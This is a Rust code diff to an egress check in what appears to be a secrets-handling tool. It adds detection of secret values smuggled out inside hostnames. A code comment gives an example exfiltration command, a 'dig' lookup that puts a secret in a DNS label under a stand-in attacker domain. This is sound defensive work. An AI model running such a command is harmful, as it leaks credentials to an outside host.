@@ -271,12 +271,6 @@ fn egress_check(
         .iter()
         .filter_map(|n| opened.contents.get(n).map(|e| (n.as_str(), &e.policy)))
         .collect();
-    if secrets.is_empty() {
-        return Ok(EgressCheck {
-            hosts: Vec::new(),
-            decision: serde_json::json!("allow: no secret injected"),
-        });
-    }
     let template: Vec<String> = argv
         .iter()
         .map(|a| a.to_string_lossy().into_owned())
@@ -297,22 +291,33 @@ fn egress_check(
             Error::new(Exit::Denied, message).hint(hint)
         };
     const EVASION_HINT: &str = "an argv check cannot follow proxies, config files or header tricks; run the command without them";
-    let dests = match egress::destinations(&template) {
-        Ok(d) => d,
-        Err(evasion) => {
-            let evasion = text(&evasion.to_string());
-            return Err(refuse(
-                Vec::new(),
-                serde_json::json!({ "refused": evasion }),
-                format!("refusing to run: the destination cannot be checked: {evasion}"),
-                EVASION_HINT,
-            ));
-        }
+    // A value sent out as a DNS label (`dig VALUE.evil.example`): names are
+    // case-insensitive, so the comparison is too. Short values stay out, as in the
+    // redactor's encodings.
+    let values: Vec<Vec<u8>> = plan
+        .env
+        .iter()
+        .filter_map(|n| opened.contents.get(n))
+        .map(|e| e.value.expose().to_ascii_lowercase())
+        .filter(|v| v.len() >= crate::secret::MIN_VALUE_LEN)
+        .collect();
+    let holds_secret = |host: &str| {
+        let host = host.as_bytes().to_ascii_lowercase();
+        values
+            .iter()
+            .any(|v| host.windows(v.len()).any(|w| w == v.as_slice()))
     };
-    let hosts: Vec<String> = dests.iter().map(|d| text(&d.to_string())).collect();
-    match egress::policy::evaluate(&secrets, &dests) {
+    let check = egress::check_argv(&secrets, &template, &holds_secret);
+    let hosts: Vec<String> = check
+        .destinations
+        .iter()
+        .map(|d| text(&d.to_string()))
+        .collect();
+    match check.decision {
         egress::policy::Decision::Allow => Ok(EgressCheck {
-            decision: serde_json::json!(if hosts.is_empty() {
+            decision: serde_json::json!(if secrets.is_empty() {
+                "allow: no secret injected"
+            } else if hosts.is_empty() {
                 "allow: no destination in argv"
             } else {
                 "allow"
@@ -331,8 +336,9 @@ fn egress_check(
         }
         egress::policy::Decision::Refuse(evasion) => {
             let evasion = text(&evasion.to_string());
+            // No hosts in the audit: one of them may hold a value (a DNS label).
             Err(refuse(
-                hosts,
+                Vec::new(),
                 serde_json::json!({ "refused": evasion }),
                 format!("refusing to run: the destination cannot be checked: {evasion}"),
                 EVASION_HINT,
